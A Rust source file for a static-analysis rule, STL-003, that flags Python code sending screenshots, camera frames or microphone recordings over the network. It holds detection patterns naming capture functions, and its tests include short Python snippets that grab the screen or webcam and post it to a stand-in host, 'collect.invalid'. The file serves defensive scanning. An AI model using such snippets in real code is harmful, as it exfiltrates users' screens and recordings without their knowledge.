//! `STL-003`: pictures of the screen or recordings leave over the network.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{self, BESIDE};
use super::evidence::texts;
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Label, Module, SinkKind};

/// The rule.
pub(super) struct ScreenSent;

impl Rule for ScreenSent {
    fn id(&self) -> &'static str {
        "STL-003"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "it sends pictures of the screen, the camera or the microphone"
    }

    fn manual(&self) -> &'static str {
        "A picture of the screen, or a recording of camera or microphone, reaches something \
         that sends, directly or by way of a file.\n\n\
         What is on a screen is as secret as what is in a password file.\n\n\
         Mistaken for it: tools for remote support and for tests, which a user calls; there it \
         counts less."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        let mut told = false;
        for flow in &analysis.flows {
            if flow.label != Label::Screen || flow.kind != SinkKind::Send {
                continue;
            }
            told = true;
            let severity = even_if_asked(Severity::High, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!(
                "{} sends a picture or recording",
                analysis.sink(flow).target
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        let watches = |module: &Module| module.calls.iter().any(takes_picture);
        for call in beside::named_and_sent(analysis, watches).filter(|_| !told) {
            let severity = even_if_asked(Severity::High, call.context);
            let message = format!("{} sends something where pictures are taken", call.target);
            observations.push(observe_call(self, call, (severity, BESIDE), message));
        }
        for module in analysis.modules.iter().filter(|_| !told) {
            let Some(call) = module
                .calls
                .iter()
                .find(|call| sends_recording(module, call))
            else {
                continue;
            };
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(75).in_context(call.context);
            let message = format!(
                "{} sends a file after a picture or recording was made",
                call.target
            );
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

/// Whether `call` sends a file, and its function or module takes pictures before that.
fn sends_recording(module: &Module, call: &Call) -> bool {
    let is_file = call.labels.has(Label::File)
        || call.labels.has(Label::OwnFile)
        || texts(call)
            .iter()
            .any(|text| text.ends_with(".png") || text.ends_with(".wav"));
    let records = |other: &Call| takes_picture(other) && other.context >= call.context;
    call.sink == Some(SinkKind::Send) && is_file && module.calls.iter().any(records)
}

fn takes_picture(call: &Call) -> bool {
    matches!(
        &*call.target,
        "PIL.ImageGrab.grab"
            | "pyautogui.screenshot"
            | "pyscreenshot.grab"
            | "mss.mss"
            | "cv2.VideoCapture"
            | "sounddevice.rec"
            | "pyaudio.PyAudio().open"
    )
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn pictures_that_leave_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "from PIL import ImageGrab\nimport requests\nim = ImageGrab.grab()\nim.save('s.png')\nrequests.post('https://collect.invalid', files={'f': open('s.png', 'rb')})",
            ),
            (
                "demo/__init__.py",
                "import mss, requests, mss.tools\nshot = mss.mss().grab({})\nrequests.post('https://collect.invalid', data=mss.tools.to_png(shot.rgb, shot.size))",
            ),
            (
                "demo/__init__.py",
                "import pyautogui as p, urllib.request as u, io\nb = io.BytesIO()\nx = p.screenshot()\nu.urlopen('https://collect.invalid', data=x.tobytes())",
            ),
            (
                "demo/__init__.py",
                "import cv2, requests\nok, frame = cv2.VideoCapture(0).read()\nrequests.post('https://collect.invalid', data=frame.tobytes())",
            ),
        ] {
            found("STL-003", path, code);
        }
    }

    #[test]
    fn pictures_that_stay_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "from PIL import ImageGrab\nImageGrab.grab().save('s.png')",
            ),
            (
                "demo/__init__.py",
                "import requests\nrequests.post('https://api.invalid', files={'f': open('chart.png', 'rb')})",
            ),
            (
                "demo/__init__.py",
                "import pyautogui, requests\ndef shot():\n    return pyautogui.screenshot()\nrequests.get('https://api.invalid')",
            ),
        ] {
            quiet("STL-003", path, code);
        }
    }
}
